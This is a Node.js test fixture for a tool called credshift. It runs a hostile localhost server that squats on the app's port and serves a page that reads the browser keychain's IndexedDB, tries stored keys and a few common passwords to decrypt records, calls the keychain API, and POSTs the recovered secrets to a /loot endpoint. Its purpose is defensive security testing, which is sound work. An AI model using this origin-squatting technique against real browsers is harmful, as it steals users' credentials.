// A hostile server for tests/web.rs: it stands for a program of another
// local user that takes credshift's port (on 127.0.0.1 after credshift
// stopped, or on [::1] while the user's browser prefers it for localhost).
// The tests run as root, so "another user" is this second process: what it
// can reach is exactly what any process on that address and port reaches,
// the browser origin http://localhost:PORT and its IndexedDB.
//
//   node squatter.mjs HOST PORT LOOT_FILE
//
// It serves a page that tries its best to decrypt the keychain: every
// CryptoKey it finds in IndexedDB against every record, a few of the
// commonest passwords against a wrapped key, and credshift's own
// keychain.js (served from assets/web, as an attacker would copy it). What
// it gets is shown in the page (#result, JSON) and POSTed to /loot, which
// appends it to LOOT_FILE. Prints "listening" once bound, or "bind-error
// CODE" and exits 3.

import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const [host, portText, lootFile] = process.argv.slice(2);
const assets = path.join(path.dirname(fileURLToPath(import.meta.url)), '../../assets/web');

const page = `<!doctype html><html><head><meta charset="utf-8"><title>credshift — browser keychain</title></head>
<body><h1>credshift browser keychain</h1><pre id="result"></pre>
<script type="module">
const result = { origin: location.origin, databases: [], items: [], keyRecords: [], cryptoKeys: 0,
  decrypted: [], guesses: 0, api: {} };
const dec = new TextDecoder();
const enc = new TextEncoder();
const req = (r) => new Promise((res, rej) => { r.onsuccess = () => res(r.result); r.onerror = () => rej(r.error); });
async function tryOpen(key, rec) {
  try {
    const plain = await crypto.subtle.decrypt({ name: 'AES-GCM', iv: rec.iv, additionalData: enc.encode(rec.id) }, key, rec.sealed);
    result.decrypted.push({ id: rec.id, plain: dec.decode(plain) });
  } catch { /* not this key */ }
}
try {
  result.databases = (await indexedDB.databases()).map((d) => d.name);
  if (result.databases.includes('credshift-keychain')) {
    const db = await req(indexedDB.open('credshift-keychain'));
    const names = Array.from(db.objectStoreNames);
    const all = async (s) => names.includes(s) ? [await req(db.transaction(s).objectStore(s).getAllKeys()), await req(db.transaction(s).objectStore(s).getAll())] : [[], []];
    const [keyNames, keyValues] = await all('keys');
    const [, items] = await all('items');
    result.items = items.map((r) => r.id);
    result.keyRecords = keyNames;
    const { COMMON_PASSWORDS } = await import('/envelope.js');
    for (const v of keyValues) {
      if (v instanceof CryptoKey) {
        result.cryptoKeys += 1;
        for (const rec of items) await tryOpen(v, rec);
      }
      if (v && v.wrapped) {
        // A dictionary attack costs 600,000 PBKDF2 rounds a guess: a few.
        for (const guess of ['', ...COMMON_PASSWORDS.slice(0, 3)]) {
          result.guesses += 1;
          try {
            const base = await crypto.subtle.importKey('raw', enc.encode(guess), 'PBKDF2', false, ['deriveKey']);
            const kek = await crypto.subtle.deriveKey({ name: 'PBKDF2', hash: 'SHA-256', salt: v.salt, iterations: v.iterations }, base, { name: 'AES-KW', length: 256 }, false, ['unwrapKey']);
            const k = await crypto.subtle.unwrapKey('raw', v.wrapped, kek, 'AES-KW', 'AES-GCM', false, ['decrypt']);
            for (const rec of items) await tryOpen(k, rec);
          } catch { /* wrong guess */ }
        }
      }
    }
    db.close();
  }
  const kc = await import('/keychain.js');
  for (const [name, call] of [['list', () => kc.list()], ['all', () => kc.all()],
    ['retrieve', () => kc.retrieve(result.items[0] ?? 'x/y')], ['key', () => kc.key()]]) {
    try {
      const got = await call();
      result.api[name] = { ok: true, got: JSON.stringify(got ?? null) };
      if (name === 'all') for (const c of got) result.decrypted.push({ id: c.id, plain: c.secret });
    } catch (e) {
      result.api[name] = { ok: false, error: String(e && e.message) };
    }
  }
} catch (e) {
  result.error = String(e && e.message);
}
const text = JSON.stringify(result);
document.getElementById('result').textContent = text;
await fetch('/loot', { method: 'POST', body: text });
document.body.dataset.done = 'true';
</script></body></html>`;

const types = { '.js': 'text/javascript', '.css': 'text/css', '.svg': 'image/svg+xml' };

const server = http.createServer((rq, rs) => {
  const url = new URL(rq.url, 'http://x');
  if (rq.method === 'POST' && url.pathname === '/loot') {
    let body = '';
    rq.on('data', (c) => { body += c; });
    rq.on('end', () => {
      fs.appendFileSync(lootFile, `${body}\n`, { mode: 0o600 });
      rs.writeHead(204).end();
    });
    return;
  }
  if (url.pathname === '/' ) {
    rs.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' }).end(page);
    return;
  }
  const file = path.join(assets, path.basename(url.pathname));
  if (/^\/[a-z]+\.(js|css|svg)$/.test(url.pathname) && fs.existsSync(file)) {
    rs.writeHead(200, { 'content-type': types[path.extname(file)], 'cache-control': 'no-store' }).end(fs.readFileSync(file));
    return;
  }
  rs.writeHead(404).end();
});
server.on('error', (e) => {
  console.log(`bind-error ${e.code}`);
  process.exit(3);
});
// Exclusive: no port sharing with another process (as a foreign user's
// server would not get either).
server.listen({ host, port: Number(portText), exclusive: true }, () => console.log('listening'));
